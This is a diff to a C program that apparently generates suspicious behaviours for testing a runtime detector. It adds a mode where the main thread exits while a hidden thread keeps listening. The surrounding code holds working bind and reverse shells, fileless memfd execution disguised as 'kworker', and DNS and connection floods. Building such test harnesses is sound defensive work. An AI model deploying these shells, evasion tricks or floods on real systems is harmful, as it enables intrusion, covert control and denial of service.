@@ -7,6 +7,7 @@
 #include <linux/if_ether.h>
 #include <linux/if_packet.h>
 #include <netinet/tcp.h>
+#include <pthread.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -107,6 +108,13 @@ static void serve(int port, const char *shell) {
   int l = socket(AF_INET, SOCK_STREAM, 0), one = 1; setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one); struct sockaddr_in a = at("0.0.0.0", port);
   if (bind(l, (void *)&a, sizeof a) || listen(l, 4)) { perror("listen"); exit(1); }
   for (;;) { int c = accept(l, 0, 0); if (c >= 0 && !fork()) { for (int i = 0; i < 3; i++) dup2(c, i); execl(shell, "sh", "-i", (char *)0); _exit(1); } close(c); } }
+
+/* The first thread ends, as pthread_exit in main does; another listens, and ends by itself a while after every window. */
+static void *listening(void *port) {
+  double end = now() + 60; int l = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = at("0.0.0.0", atoi(port)); struct timeval t = {1, 0};
+  setsockopt(l, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); if (bind(l, (void *)&a, sizeof a) || listen(l, 4)) { perror("listen"); exit(1); }
+  while (now() < end) { int c = accept(l, 0, 0); if (c >= 0) close(c); } exit(0); }
+static void leaderless(char *port) { pthread_t t; if (pthread_create(&t, 0, listening, port)) exit(1); syscall(SYS_exit, 0); }
 
 /* What must be found whatever else is tried: a program is made, runs for a while, and is gone before the end. */
 static void vanish(const char *self, const char *seconds) {
@@ -223,7 +231,7 @@ int main(int argc, char **v) {
   else if (IS("fromelsewhere", 4)) { fromelsewhere(v[2], v[3], atoi(v[4])); sleep(2); }
   else if (IS("memfd", 2)) { int in = open(v[2], O_RDONLY), m = memfd_create("kworker", 0), n; while ((n = read(in, b, sizeof b)) > 0) (void)!write(m, b, n); char *none[] = {0}; fexecve(m, v + 2, none); perror("memfd"); return 1; }
   else if (IS("shell", 4)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; struct timeval t = {0, 0}; setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); for (int i = 0; i < 3; i++) dup2(s, i); execl(v[4], "sh", argc > 5 ? (char *)0 : "-i", (char *)0); return 1; }
-  else if (IS("serve", 3)) serve(atoi(v[2]), v[3]);
+  else if (IS("serve", 3)) serve(atoi(v[2]), v[3]); else if (IS("leaderless", 2)) leaderless(v[2]);
   else if (IS("burn", 2)) burn(atof(v[2]));
   else if (IS("dnsflood", 2)) for (int i = 0; i < atoi(v[2]); i++) { char n[64]; snprintf(n, sizeof n, "h%d.flood.example", i); resolve(server(), n, ip); }
   else if (IS("connflood", 4)) { for (int i = 0; i < atoi(v[4]); i++) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = at(v[2], atoi(v[3])); if (s < 0 || connect(s, (void *)&a, sizeof a)) { if (s >= 0) close(s); usleep(1000); } } sleep(1); }
